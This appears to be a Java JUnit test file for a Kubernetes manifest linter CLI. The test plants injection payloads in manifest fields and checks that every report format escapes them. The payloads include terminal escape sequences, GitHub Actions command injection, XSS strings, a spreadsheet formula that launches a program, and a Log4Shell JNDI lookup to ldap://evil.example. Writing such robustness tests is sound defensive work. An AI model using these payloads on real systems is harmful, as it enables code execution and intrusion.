package dev.hopcheck.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hopcheck.report.ReportFormat;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

/**
 * Payloads in all places that the input controls, written in all formats and read again by a parser
 * that is not ours: robustness 80 to 90. A new format joins by a line in {@link #READERS}.
 */
class OutputInjectionTest {
  /** What holds for the output of each format of {@code lint}, whatever the input. */
  private static final Map<String, OutputReader> READERS = new LinkedHashMap<>();

  static {
    READERS.put("text", OutputReader::lines);
    READERS.put("json", OutputReader::json);
    READERS.put("sarif", OutputReader::sarif);
    READERS.put("github", OutputReader::github);
    READERS.put("gitlab", OutputReader::json);
    READERS.put("junit", OutputReader::xml);
    READERS.put("markdown", OutputReader::markdown);
    READERS.put("html", HtmlReader::read);
  }

  /** The number of the case that a payload is aimed at, a name, and the payload. */
  private record Payload(int number, String name, String text) {}

  private static final List<Payload> PAYLOADS =
      List.of(
          new Payload(80, "colour", "\u001b[31m\u001b[2Jred"),
          new Payload(80, "hyperlink", "\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007"),
          new Payload(80, "clipboard", "\u001b]52;c;ZXZpbA==\u0007"),
          new Payload(80, "control", "a\u0007\b\r\u007f\u0085\u009b31mb"),
          new Payload(80, "direction", "abc\u202egnp.yaml\u2066\u200b"),
          new Payload(81, "command", "::error::owned"),
          new Payload(81, "command-on-a-line", "x\n::stop-commands::y\n::add-mask::z\r::error::a"),
          new Payload(81, "group", "##[error]owned ##[group]"),
          new Payload(81, "encoded", "a%0A::error::b%0D%25,:=c"),
          new Payload(82, "uri", "a b#c%20d?e:f&..;C:\\x"),
          new Payload(82, "message-link", "[x](http://evil.example) {0}"),
          new Payload(83, "quotes", "\"',\\}],\"x\":1 \u2028\u2029</script>"),
          new Payload(84, "entity", "]]>&lol;<!DOCTYPE x>&#0;\ufffe\uffff"),
          new Payload(85, "script", "<script>alert(1)</script><img src=x onerror=alert(1)><!--"),
          new Payload(85, "style", "\" onmouseover=\"alert(1)\" style=\"{{x}}${y}"),
          new Payload(
              86, "markdown", "|`` a `|# h\n![i](http://evil.example) @team #123 <details>"),
          new Payload(86, "fence", "```\n~~~\n<b>\n\n> q\n- [ ] t\n[l]: http://evil.example"),
          new Payload(87, "mermaid", "\"]; click A \"javascript:alert(1)\" %%{init: {}}%%; end"),
          new Payload(88, "dot", "\"] [URL=\"http://evil.example\", image=\"x\"]; a -> b \\N <b>"),
          new Payload(89, "formula", "=cmd|' /C calc'!A0"),
          new Payload(90, "logging", "${jndi:ldap://evil.example/a} {} %n %s %1$s"));

  /** Where it is put; {@code @} stands for the payload as a quoted scalar. */
  private static final Map<String, String> SINKS = new LinkedHashMap<>();

  static {
    SINKS.put("kind", "apiVersion: v1\nkind: @\nmetadata: {name: a}\n");
    SINKS.put("apiVersion", "apiVersion: @\nkind: Service\nmetadata: {name: a}\n");
    SINKS.put("custom-kind", "apiVersion: example.com/v1\nkind: @\nmetadata: {name: a}\n");
    SINKS.put("name", service("metadata: {name: @}", "app: b", ""));
    SINKS.put("namespace", service("metadata: {name: a, namespace: @}", "app: b", ""));
    SINKS.put("label-value", service("metadata: {name: a, labels: {app: @}}", "app: @", ""));
    SINKS.put("label-key", service("metadata: {name: a, labels: {@: b}}", "@: c", ""));
    SINKS.put("annotation", service("metadata: {name: a, annotations: {@: @}}", "app: b", ""));
    SINKS.put("unknown-key", service("metadata: {name: a}", "app: b", "  @: 1\n"));
    SINKS.put("enum-value", service("metadata: {name: a}", "app: b", "  type: @\n"));
    SINKS.put("external-name", service("metadata: {name: a}", "{}", "  externalName: @\n"));
    SINKS.put(
        "suppression",
        service("metadata: {name: a}", "app: b", "  type: NodePort # hopcheck: ignore x -- @\n"));
    SINKS.put("suppression-id", service("metadata: {name: a}", "app: b # hopcheck: ignore @", ""));
    SINKS.put("image-and-host", workload("image: @", "http://@.shop.svc:80", "@"));
    SINKS.put("broken", "kind: [@\n");
    SINKS.put("tag", "kind: !<@> x\n");
    SINKS.put(
        "duplicate", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {@: a, @: b}\n");
  }

  private static String service(String metadata, String selector, String more) {
    return "apiVersion: v1\nkind: Service\n"
        + metadata
        + "\nspec:\n  selector:\n    "
        + selector
        + "\n  ports: [{port: 80, name: a, nodePort: 99}]\n"
        + more;
  }

  private static String workload(String container, String address, String port) {
    return """
        apiVersion: apps/v1
        kind: Deployment
        metadata: {name: a}
        spec:
          selector: {matchLabels: {app: a}}
          template:
            metadata: {labels: {app: b}}
            spec:
              containers:
                - name: NAMED
                  CONTAINER
                  ports: [{name: NAMED, containerPort: 80}]
                  env: [{name: PEER, value: ADDRESS}]
        """
        .replace("CONTAINER", container)
        .replace("NAMED", port)
        .replace("ADDRESS", address.startsWith("http://@") ? "@@" : address);
  }

  @TempDir private Path temporary;

  @TestFactory
  List<DynamicTest> robustness80To90NoFormatLetsItThrough() {
    List<DynamicTest> tests = new ArrayList<>();
    for (Payload payload : PAYLOADS) {
      String name = payload.number() + " " + payload.name();
      Path folder = temporary.resolve(payload.name());
      tests.add(DynamicTest.dynamicTest(name, () -> hold(payload, folder)));
    }
    return tests;
  }

  private static void hold(Payload payload, Path folder) throws Exception {
    put(payload.text(), folder);
    for (String unit : List.of("file", "all")) {
      for (ReportFormat format : ReportFormat.values()) {
        OutputReader reader = READERS.get(format.word());
        assertThat(reader).as("a reader of %s", format).isNotNull();
        CommandLine done =
            CommandLine.run(
                folder, "lint", "--unit", unit, "--show", "info", "--format", format.word());
        assertThat(done.exit()).as(format.word()).isEqualTo(2);
        assertThat(done.err()).isEmpty();
        reader.read(done.out());
        if (format == ReportFormat.JSON) {
          assertThat(OutputReader.texts(done.out()))
              .as("the payload is shown somewhere")
              .anyMatch(text -> text.contains(payload.text()));
        }
      }
    }
    CommandLine diff = CommandLine.run(folder, "lint", "--fix=unsafe", "--dry-run");
    OutputReader.lines(diff.out());
    for (String drawing : List.of("mermaid", "dot")) {
      CommandLine drawn =
          CommandLine.run(folder, "routes", "--unit", "all", "--format", drawing, ".");
      OutputReader.lines(drawn.out());
      assertThat(drawn.out()).startsWith(drawing.equals("dot") ? "digraph routes {" : "flowchart");
      OutputReader.drawing(drawn.out());
    }
    String to = payload.text();
    simulated(2, folder, "routes", "--unit", "file");
    simulated(2, folder, "test", "--unit", "file");
    simulated(-1, folder, "resolve", "--unit", "all", "--", to, ".");
    simulated(-1, folder, "resolve", "--unit", "all", "--from", to, "a", ".");
    simulated(
        -1, folder, "trace", "--unit", "all", "--from", "deployment/a in default", "--to", to);
    simulated(-1, folder, "trace", "--unit", "all", "--from", to, "--to", "a");
    for (List<String> wrong :
        List.of(
            List.of(to),
            List.of("lint", "--format", to),
            List.of("lint", "--no" + to),
            List.of("lint", "--limit", to),
            List.of("lint", to),
            List.of("explain", to))) {
      CommandLine done = CommandLine.run(folder, wrong.toArray(String[]::new));
      assertThat(done.exit()).isGreaterThan(1);
      OutputReader.lines(done.out());
      OutputReader.lines(done.err());
    }
  }

  /** Runs a command that simulates in all its formats. */
  private static void simulated(int exit, Path folder, String... line) throws Exception {
    boolean test = line[0].equals("test");
    for (String format : test ? List.of("text", "json", "junit") : List.of("text", "json")) {
      List<String> arguments = new ArrayList<>(List.of(line));
      arguments.add(1, "--format=" + format);
      CommandLine done = CommandLine.run(folder, arguments.toArray(String[]::new));
      assertThat(exit < 0 || done.exit() == exit).as("%s: %s", arguments, done).isTrue();
      OutputReader.lines(done.err());
      assertThat(done.err()).doesNotContain("internal error");
      if (!done.out().isEmpty()) {
        READERS.get(format).read(done.out());
      }
    }
  }

  private static void put(String payload, Path folder) throws IOException {
    String quoted = quoted(payload);
    for (Map.Entry<String, String> sink : SINKS.entrySet()) {
      String text = sink.getValue();
      boolean plain = sink.getKey().startsWith("suppression") || sink.getKey().equals("tag");
      String value = plain ? payload.replace('\n', ' ').replace('\r', ' ') : quoted;
      text = text.replace("@@", quoted("http://" + payload + ".shop.svc:80"));
      Manifests.write(folder.resolve(sink.getKey() + ".yaml"), text.replace("@", value));
    }
    String name = payload.replace('/', '_').replace('\0', '_');
    Manifests.write(folder.resolve(name + ".yaml"), Manifests.broken("web"));
    Manifests.write(folder.resolve(name).resolve("in.yaml"), Manifests.broken("web"));
    Manifests.write(folder.resolve(name).resolve("broken.yaml"), "a: [\n");
    Manifests.write(
        folder.resolve("test.flows"),
        "from deployment/a to http://" + payload + " succeeds\n" + payload + "\n");
    Manifests.write(folder.resolve(name + ".flows"), "resolve web from default is " + payload);
  }

  /** As a double-quoted scalar, in escapes where YAML wants them. */
  private static String quoted(String text) {
    StringBuilder quoted = new StringBuilder("\"");
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c >= ' ' && c < 0x7F && c != '"' && c != '\\') {
        quoted.append(c);
      } else {
        quoted.append("\\u").append(Integer.toHexString(0x10000 | c), 1, 5);
      }
    }
    return quoted.append('"').toString();
  }

  @Test
  void robustness80ALineOfAMegabyteIsCut() throws Exception {
    String flood = "x".repeat(1 << 20);
    for (String sink : SINKS.keySet()) {
      Path folder = temporary.resolve("flood-" + sink);
      String text = SINKS.get(sink).replace("@@", "http://" + flood).replace("@", flood);
      Manifests.write(folder.resolve("a.yaml"), text);
      CommandLine done = CommandLine.run(folder, "lint", "--show", "info");
      for (String line : done.out().split("\n")) {
        assertThat(line.length()).as(sink).isLessThanOrEqualTo(4_096);
      }
      assertThat(done.out().length()).as(sink).isLessThan(64_000);
    }
  }

  @Test
  void robustness83And84TextsThatOnlyWholeFilesCanHold() throws Exception {
    Path folder = temporary.resolve("whole");
    Manifests.write(folder.resolve("a.yaml"), "kind: \"\\uD800\"\n");
    Files.write(folder.resolve("b.yaml"), new byte[] {'a', ':', ' ', (byte) 0xff, '\n'});
    Files.writeString(folder.resolve("c.yaml"), "a: \u0000\u0007\n");
    for (ReportFormat format : ReportFormat.values()) {
      CommandLine done = CommandLine.run(folder, "lint", "--format", format.word());
      assertThat(done.exit()).isEqualTo(2);
      READERS.get(format.word()).read(done.out());
    }
  }
}
